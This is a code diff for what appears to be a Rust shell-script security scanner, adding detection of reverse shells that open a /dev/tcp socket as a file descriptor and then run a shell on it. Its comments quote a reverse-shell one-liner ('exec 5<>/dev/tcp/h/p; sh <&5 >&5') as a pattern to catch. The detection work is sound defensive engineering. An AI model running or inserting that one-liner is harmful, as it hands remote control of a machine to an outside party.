@@ -34,6 +34,8 @@ pub(crate) struct Scan<'g> {
     programs: Programs,
     cwd: Cwd,
     pub(crate) found: Option<Finding>,
+    /// A descriptor of this text is open onto a network socket (`exec 3<>/dev/tcp/h/p`).
+    socket_open: bool,
 }
 
 /// What a runner's input is, as far as the text shows.
@@ -65,6 +67,7 @@ impl<'g> Scan<'g> {
             programs: Programs::default(),
             cwd,
             found: None,
+            socket_open: false,
         }
     }
 
@@ -130,8 +133,7 @@ impl<'g> Scan<'g> {
         for pipeline in script.body_pipelines(body) {
             runs.clear();
             for command in pipeline {
-                let argv = command.argv(&guard.prefixes);
-                let matched = argv.map(|(program, _)| self.programs.lookup(guard, program));
+                let (argv, matched) = self.programs.program_of(guard, &command);
                 runs.push((command, argv, matched));
             }
             if self.pipeline(script, &runs, text, depth) {
@@ -162,6 +164,9 @@ impl<'g> Scan<'g> {
             .rposition(|(_, _, matched)| is_network(*matched, &self.programs));
         let mut leaked_before = false;
         for (position, (command, argv, matched)) in runs.iter().enumerate() {
+            if self.socket_shell(command, *argv, *matched) {
+                return true;
+            }
             if self.rules(command, *argv, *matched, runs, position) {
                 return true;
             }
@@ -190,6 +195,41 @@ impl<'g> Scan<'g> {
                 };
                 self.cwd = self.cwd.cd(target);
             }
+        }
+        false
+    }
+
+    /// The reverse shell that opens its socket as a descriptor first, then runs a shell
+    /// (or each line it reads, `$line`) on that descriptor: `exec 5<>/dev/tcp/h/p;
+    /// sh <&5 >&5`. Opening the descriptor alone is a plain network client.
+    fn socket_shell(
+        &mut self,
+        command: &SimpleCommand<'_, '_>,
+        argv: Option<(&str, &[Cow<'_, str>])>,
+        matched: Option<usize>,
+    ) -> bool {
+        let is_socket =
+            |target: &str| target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
+        let opens_only = argv.is_none_or(|(program, args)| program == "exec" && args.is_empty());
+        if opens_only && command.redirects.iter().any(|r| is_socket(&r.target)) {
+            self.socket_open = true;
+            return false;
+        }
+        let Some((program, _)) = argv else {
+            return false;
+        };
+        let runs_code = program.starts_with('$')
+            || matched.is_some_and(|m| self.programs.kind(m) == Kind::Shell);
+        // Descriptors 0-2 are the usual ones (`2>&1`); the socket is one opened by number.
+        let on_descriptor = command.redirects.iter().any(|r| {
+            r.op.ends_with('&')
+                && !r.target.is_empty()
+                && r.target.bytes().all(|b| b.is_ascii_digit())
+                && !matches!(r.target.as_ref(), "0" | "1" | "2")
+        });
+        if self.socket_open && runs_code && on_descriptor {
+            let text = command.words.join(" ");
+            return self.note_named("reverse-shell", "reverse shell", &text);
         }
         false
     }
@@ -905,9 +945,30 @@ struct Program {
     kind: Kind,
     /// Its entry in `SecurityGuard::subcommand_options`, if it has one (`git`).
     subcommand_options: Option<usize>,
+    /// Whether the name, as a command's first word, is the program that runs (not an
+    /// assignment, a shell keyword or a wrapper such as `sudo`).
+    runs_itself: bool,
 }
 
 impl Programs {
+    /// The program a command runs, its arguments and its entry. A command whose first word
+    /// is a name already seen to run itself skips the search past assignments and wrappers.
+    fn program_of<'s, 'a>(
+        &mut self,
+        guard: &SecurityGuard,
+        command: &SimpleCommand<'s, 'a>,
+    ) -> (Argv<'s, 'a>, Option<usize>) {
+        if let Some((first, args)) = command.words.split_first()
+            && let Some(index) = self.seen.iter().position(|p| shell::same(&p.name, first))
+            && self.seen.get(index).is_some_and(|p| p.runs_itself)
+        {
+            return (Some((first.as_ref(), args)), Some(index));
+        }
+        let argv = command.argv(&guard.prefixes);
+        let matched = argv.map(|(program, _)| self.lookup(guard, program));
+        (argv, matched)
+    }
+
     /// The entry for `program`, matching it against the rules on first sight.
     fn lookup(&mut self, guard: &SecurityGuard, program: &str) -> usize {
         if let Some(index) = self.seen.iter().position(|p| shell::same(&p.name, program)) {
@@ -955,6 +1016,7 @@ impl Programs {
             rules,
             kind,
             subcommand_options,
+            runs_itself: shell::runs_itself(program, &guard.prefixes),
         });
         self.seen.len() - 1
     }
